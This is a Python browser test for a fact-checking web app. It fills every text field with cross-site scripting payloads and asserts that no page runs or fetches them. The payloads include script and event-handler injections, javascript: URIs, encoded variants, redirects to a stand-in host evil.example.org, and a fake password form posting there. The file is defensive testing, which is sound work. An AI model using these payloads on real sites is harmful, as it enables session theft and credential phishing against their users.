"""Text from outside stays text: whatever it says, no page runs it, and no page fetches for it."""

from itertools import cycle
from urllib.parse import quote

import pytest
import sqlalchemy as sa

from tests.browser.pages import DeskPage, SignInPage
from tests.factories import Desk
from tests.shared_data import shared_path
from workbench.domain.articles import NAME_MAX, TITLE_MAX, URL_MAX
from workbench.domain.claims import CLAIMANT_MAX, REASON_MAX, WORDING_MAX, ClaimantType, ClaimEdit
from workbench.domain.editors import Role
from workbench.domain.text import one_line
from workbench.domain.verdicts import NOTE_MAX, PASSAGE_MAX, SUMMARY_MAX
from workbench.models import HistoryEntry, db
from workbench.services import claims, editors, evidence, files, publications
from workbench.services.transaction import transaction

pytestmark = pytest.mark.parametrize("database_kind", ["sqlite"], indirect=True)

RUN = "window.__xss=1"
OWN = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><img src=x onerror={RUN}>",
    f"</option></select><svg onload={RUN}>",
    f'"><svg/onload="{RUN}">',
    f"'><img src=x onerror='{RUN}'>",
    f'" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f"`><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"javascript:{RUN}",
    f"JaVaScRiPt&colon;{RUN}//",
    f"data:text/html,<script>{RUN}</script>",
    f"<iframe srcdoc='<script>parent.{RUN[7:]}</script>'></iframe>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<a href=javascript:{RUN} autofocus onfocus={RUN}>x</a>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    "<base href=//evil.example.org/><link rel=stylesheet href=//evil.example.org/a.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example.org/'><img src=//evil.example.org/p>",
    "<form action=//evil.example.org/><input name=password><button>Sign in</button></form>",
    "<style>@import '//evil.example.org/a.css'; body { display: none }</style>",
    f"{{{{ 7 * 7 }}}}{{% raw %}}${{{RUN}}}<%= 7 %>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;img src=x onerror={RUN}&#62;",
    f"\u2028<script>{RUN}</script>\u202e\ufeff\\u003cscript\\u003e\\x3csvg onload={RUN}\\x3e",
    f'=HYPERLINK("//evil.example.org")|<x contenteditable onblur={RUN} tabindex=1 autofocus>',
)
SHARED = ("XSS_Polyglots.txt", "xss_payloads_quick.txt", "MarioXSSVectors.txt")
# A claim has so many short fields; each takes another payload.
SHORT_FIELDS = 10


class HostileDesk:
    """Stores payloads wherever the desk takes text, and lists the pages that show them."""

    def __init__(self, payloads):
        self._short = cycle(payloads)
        self._all = "\n".join(payloads)
        self.desk = Desk()
        self.paths = ["/queue/?status=all", "/articles/", "/verdicts/", "/history/", "/people/"]
        self.shown = []

    def next(self, most):
        """Return the next payload, fit for a field of one line and *most* characters."""
        return one_line(next(self._short))[:most] or "x"

    def add_person(self):
        """Add an editor whose name is a payload."""
        with transaction():
            number = len(editors.list_editors())
            email = f"hostile{number}@example.org"
            person = editors.add_editor(self.next(100), email, Role.EDITOR, actor=self.desk.admin)
        self.paths += [f"/people/{person.id}", f"/history/people/{person.id}"]
        return person

    def add_claim(self):
        """Bring a claim made of payloads to readers, correct it and take it back."""
        person = self.add_person()
        claim = self._make_claim(person)
        item = self.desk.make_evidence(
            claim,
            actor=person,
            title=self.next(TITLE_MAX),
            passage=self._all[:PASSAGE_MAX],
            note=self._all[-NOTE_MAX:],
            publisher=self.next(NAME_MAX),
            locator=self.next(NAME_MAX),
            url="https://example.org/?q=" + quote(self.next(500), safe="/:=();'"),
            file=files.keep(b"x", self.next(200)),
        )
        gone = self.desk.make_evidence(claim, title=self.next(TITLE_MAX), note=self.next(500))
        with transaction():
            evidence.withdraw(gone, self.next(REASON_MAX), actor=person)
        self.desk.published(self.desk.judged(claim, actor=person, summary=self._all[:SUMMARY_MAX]))
        again = self.desk.judged(claim, actor=person, summary=self.next(SUMMARY_MAX))
        self.desk.published(again, reason=self._all[:REASON_MAX])
        with transaction():
            publications.withdraw(claim, self.next(REASON_MAX), actor=self.desk.reviewer)
        number, article = claim.id, claim.article_id
        self.shown.append((f"/claims/{number}", claim.wording))
        self.paths += [
            f"/claims/{number}",
            f"/claims/{number}/edit",
            f"/claims/{number}/verdict",
            f"/claims/evidence/{item.id}/edit",
            f"/articles/{article}",
            f"/articles/{article}/edit",
            f"/history/claims/{number}",
            f"/verdicts/{number}",
        ]

    def _make_claim(self, person):
        title = self.next(TITLE_MAX)
        claim = self.desk.make_claim(
            text=f"{len(self.paths)} {self._all}",
            quotes=(self._all[:300],),
            title=title,
            outlet=self.next(NAME_MAX),
            author=self.next(NAME_MAX),
            source_url=self.next(URL_MAX),
            actor=person,
        )
        wanted = ClaimEdit(
            wording=self.next(WORDING_MAX),
            kind=claim.kind,
            claimant=self.next(CLAIMANT_MAX),
            claimant_type=ClaimantType.PERSON,
        )
        with transaction():
            claims.edit(claim, wanted, rev=claim.rev, actor=person)
        dismissed = self.desk.make_proposal()
        with transaction():
            claims.dismiss(dismissed, self.next(REASON_MAX), actor=person)
        self.paths.append(f"/claims/{dismissed.id}")
        return claim


def _open_everything(page, hostile):
    """Open every page that shows the payloads and assert that each was only text."""
    dialogs = []

    def note(dialog):
        dialogs.append(f"{page.url}: {dialog.message}")
        dialog.dismiss()

    page.on("dialog", note)
    SignInPage(page).sign_in(Role.ADMIN)
    entries = db.session.scalars(sa.select(HistoryEntry.seq)).all()
    paths = hostile.paths + [f"/history/{max(entries) - back}" for back in range(0, 40, 10)]
    for path in paths:
        DeskPage(page).open(path)
        # Whatever waits for the pointer or the focus is given both.
        page.mouse.move(300, 200)
        page.keyboard.press("Tab")
        assert page.evaluate("window.__xss") is None, f"{path} ran a payload"
        assert page.url.endswith(path), f"{path} led to {page.url}"
    assert dialogs == []
    for path, wording in hostile.shown:
        DeskPage(page).open(path)
        assert " ".join(DeskPage(page).heading().inner_text().split()) == " ".join(wording.split())


def test_no_page_runs_what_it_shows(in_app, page):
    # Given a desk whose every text is an attack, each of them at least once in a short field
    hostile = HostileDesk(OWN)
    for _ in range(len(OWN) // SHORT_FIELDS + 1):
        hostile.add_claim()
    # When every page that shows them is opened
    # Then nothing ran, nothing was fetched, and the words can be read as they were written
    _open_everything(page, hostile)


@pytest.mark.shared
def test_no_page_runs_known_attacks(in_app, page):
    # Given a desk filled from public lists of attacks
    folder = shared_path("data", "payloads", "XSS Injection", "Intruders")
    lines = [line for name in SHARED for line in (folder / name).read_text().splitlines()]
    hostile = HostileDesk([line for line in lines if line.strip()])
    for _ in range(3):
        hostile.add_claim()
    # When every page that shows them is opened
    # Then nothing ran and nothing was fetched
    _open_everything(page, hostile)
